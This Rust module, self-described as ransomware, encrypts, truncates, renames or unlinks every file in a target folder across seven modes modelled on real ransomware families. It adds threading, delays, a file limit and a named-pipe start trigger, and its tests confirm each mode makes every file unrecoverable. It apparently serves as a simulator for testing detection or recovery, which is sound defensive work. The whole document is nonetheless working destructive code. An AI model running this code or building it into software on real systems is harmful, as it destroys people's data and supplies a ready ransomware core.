//! Ransomware: reads each file, encrypts it, and makes the original unusable in one of several ways.

use std::fs::{self, File, OpenOptions};
use std::io::{Read as _, Seek as _, Write as _};
use std::path::{Path, PathBuf};
use std::str::FromStr;
use std::time::Duration;

use crate::content::Stream;
use crate::failure::Failure;
use crate::files::{list, with_ending};
use crate::options::Options;
use crate::report::Report;
use crate::sys::memory::Mapping;

/// What happens to each file; each is how some family of ransomware works.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub(crate) enum Mode {
    /// Encrypts in place, then renames to `.locked`.
    RewriteRename,
    /// Writes an encrypted copy named `.locked`, then unlinks the original.
    NewUnlink,
    /// Encrypts in place and keeps the name.
    InPlace,
    /// Encrypts in place through a shared mapping and keeps the name.
    Mapped,
    /// Encrypts only the beginning, in place, and keeps the name.
    Partial,
    /// Only renames to `.locked`.
    RenameOnly,
    /// Opens with truncation, writes the encrypted content, keeps the name.
    Truncate,
}

impl FromStr for Mode {
    type Err = ();

    fn from_str(name: &str) -> Result<Self, ()> {
        match name {
            "rewrite-rename" => Ok(Self::RewriteRename),
            "new-unlink" => Ok(Self::NewUnlink),
            "inplace" => Ok(Self::InPlace),
            "mmap" => Ok(Self::Mapped),
            "partial" => Ok(Self::Partial),
            "rename-only" => Ok(Self::RenameOnly),
            "truncate" => Ok(Self::Truncate),
            _ => Err(()),
        }
    }
}

/// Encrypts the files of a folder, with several threads if asked.
pub(crate) fn ransom(options: &Options) -> Result<Report, Failure> {
    let dir = options.path("dir")?;
    let mode = options.value_or("mode", Mode::RewriteRename)?;
    let delay = Duration::from_micros(options.value_or("delay-us", 0)?);
    let threads = options.value_or("threads", 1_usize)?.clamp(1, 64);
    let limit = options.value_or("files", usize::MAX)?;
    if let Some(gate) = options.text("after") {
        // Opening a named pipe waits for whoever opens its other end.
        File::open(gate).map_err(Failure::file("opening", Path::new(gate)))?;
    }
    // Listing is no attack yet: the clock starts after it.
    let paths = list(&dir, limit)?;
    let report = Report::start("ransom");
    let share = paths.len().div_ceil(threads).max(1);
    std::thread::scope(|scope| {
        let workers: Vec<_> =
            paths.chunks(share).map(|part| scope.spawn(move || encrypt_all(part, mode, delay))).collect();
        workers.into_iter().try_for_each(|worker| worker.join().unwrap_or(Ok(())))
    })?;
    Ok(report.count("files", paths.len() as u64))
}

/// Encrypts one thread's share.
fn encrypt_all(paths: &[PathBuf], mode: Mode, delay: Duration) -> Result<(), Failure> {
    for path in paths {
        encrypt(path, mode)?;
        if !delay.is_zero() {
            std::thread::sleep(delay);
        }
    }
    Ok(())
}

/// Encrypts one file.
pub(crate) fn encrypt(path: &Path, mode: Mode) -> Result<(), Failure> {
    let locked = with_ending(path, ".locked");
    match mode {
        Mode::RewriteRename => {
            rewrite(path)?;
            fs::rename(path, &locked).map_err(Failure::file("renaming", path))
        }
        Mode::NewUnlink => {
            let bytes = encrypted(path)?;
            let mut copy = File::create_new(&locked).map_err(Failure::file("creating", &locked))?;
            copy.write_all(&bytes).map_err(Failure::file("writing", &locked))?;
            fs::remove_file(path).map_err(Failure::file("removing", path))
        }
        Mode::InPlace => rewrite(path),
        Mode::Mapped => rewrite_mapped(path),
        Mode::Partial => {
            let mut bytes = encrypted(path)?;
            bytes.truncate(BEGINNING);
            let open = OpenOptions::new().write(true).open(path);
            open.and_then(|mut file| file.write_all(&bytes)).map_err(Failure::file("writing", path))
        }
        Mode::RenameOnly => fs::rename(path, &locked).map_err(Failure::file("renaming", path)),
        Mode::Truncate => {
            let bytes = encrypted(path)?;
            // std's `write` opens with O_TRUNC.
            fs::write(path, bytes).map_err(Failure::file("writing", path))
        }
    }
}

/// How much of a file [`Mode::Partial`] encrypts, in bytes.
const BEGINNING: usize = 64;

/// Encrypts a file through a mapping: no call writes.
fn rewrite_mapped(path: &Path) -> Result<(), Failure> {
    let bytes = encrypted(path)?;
    if bytes.is_empty() {
        return Ok(());
    }
    let open = OpenOptions::new().read(true).write(true).open(path);
    let file = open.map_err(Failure::file("opening", path))?;
    let mut mapping = Mapping::of_file(&file, bytes.len()).map_err(Failure::file("mapping", path))?;
    mapping.write(&bytes);
    Ok(())
}

/// The encrypted content of a file.
pub(crate) fn encrypted(path: &Path) -> Result<Vec<u8>, Failure> {
    let mut bytes = fs::read(path).map_err(Failure::file("reading", path))?;
    Stream::new(bytes.len() as u64).combine(&mut bytes);
    Ok(bytes)
}

/// Encrypts a file through one descriptor opened for reading and writing.
fn rewrite(path: &Path) -> Result<(), Failure> {
    let open = OpenOptions::new().read(true).write(true).open(path);
    let mut file = open.map_err(Failure::file("opening", path))?;
    let mut bytes = Vec::new();
    file.read_to_end(&mut bytes).map_err(Failure::file("reading", path))?;
    Stream::new(bytes.len() as u64).combine(&mut bytes);
    file.rewind().and_then(|()| file.write_all(&bytes)).map_err(Failure::file("writing", path))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::files::tests::Folder;

    #[test]
    fn every_mode_loses_every_file() {
        for mode in ["rewrite-rename", "new-unlink", "inplace", "mmap", "partial", "rename-only", "truncate"]
        {
            let folder = Folder::new(mode);
            folder.prepare(9);
            ransom(&folder.options(&format!("--mode {mode} --threads 2"))).unwrap();
            assert!(folder.lost().contains(r#""lost":9"#), "{mode}: {}", folder.lost());
        }
    }

    #[test]
    fn a_limit_is_kept() {
        let folder = Folder::new("limit");
        folder.prepare(9);
        ransom(&folder.options("--files 4")).unwrap();
        assert!(folder.lost().contains(r#""lost":4"#), "{}", folder.lost());
    }
}
